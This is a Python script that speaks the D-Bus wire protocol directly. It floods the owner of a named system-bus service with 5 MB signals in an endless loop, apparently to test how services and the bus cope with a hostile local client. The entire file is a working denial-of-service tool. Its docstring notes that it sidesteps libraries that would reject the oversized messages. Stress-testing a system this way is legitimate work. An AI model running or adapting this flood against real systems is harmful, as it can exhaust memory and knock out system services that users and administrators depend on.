#!/usr/bin/python3
"""A stranger on the system bus: signals of 5 MB to the owner of a name, again and again, until it is killed.

    flood_signals.py NAME

It speaks the wire format itself (D-Bus Specification, "Message Format"): no library is needed in the guest, nor any that refuses the size.
"""
import os
import socket
import struct
import sys
import time

BODY_BYTES = 5_000_000
PAUSE_S = 0.1


def text(value):
    return struct.pack("<I", len(value)) + value.encode() + b"\0"


def field(code, kind, value):
    """A header field; each begins at a multiple of 8."""
    data = bytes([code, 1]) + kind + b"\0"
    data += bytes([len(value)]) + value.encode() + b"\0" if kind == b"g" else text(value)
    return data + b"\0" * (-len(data) % 8)


def message(kind, serial, fields, body=b""):
    data = b"".join(fields)
    # The last field is followed by the padding of the header, which does not count.
    count = len(data.rstrip(b"\0")) + 1 if data else 0
    head = b"l" + bytes([kind, 0, 1]) + struct.pack("<III", len(body), serial, count)
    whole = head + data[:count]
    return whole + b"\0" * (-len(whole) % 8) + body


def call(bus, serial, member, argument=None):
    """A call of the bus itself; its answer is read and returned."""
    fields = [field(1, b"o", "/org/freedesktop/DBus"), field(2, b"s", "org.freedesktop.DBus"), field(3, b"s", member),
              field(6, b"s", "org.freedesktop.DBus")]
    body = b""
    if argument:
        fields.append(field(8, b"g", "s"))
        body = text(argument)
    bus.sendall(message(1, serial, fields, body))
    time.sleep(0.5)
    return bus.recv(65_536)


def main():
    bus = socket.socket(socket.AF_UNIX)
    bus.connect("/run/dbus/system_bus_socket")
    bus.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    if not bus.recv(4_096).startswith(b"OK"):
        sys.exit("the bus does not take this user")
    bus.sendall(b"BEGIN\r\n")
    call(bus, 1, "Hello")
    answer = call(bus, 2, "GetNameOwner", sys.argv[1])
    # Its only argument is the last string.
    owner = answer[answer.rindex(b":1."):].split(b"\0")[0].decode()
    body = struct.pack("<I", BODY_BYTES) + b"\0" * BODY_BYTES
    signal = message(4, 3, [field(1, b"o", "/x"), field(2, b"s", "x.Flood"), field(3, b"s", "Flood"), field(6, b"s", owner),
                            field(8, b"g", "ay")], body)
    count = 0
    while True:
        bus.sendall(signal)
        count += 1
        print(f"{count} signals of {BODY_BYTES} bytes to {owner}", flush=True)
        time.sleep(PAUSE_S)


if __name__ == "__main__":
    main()
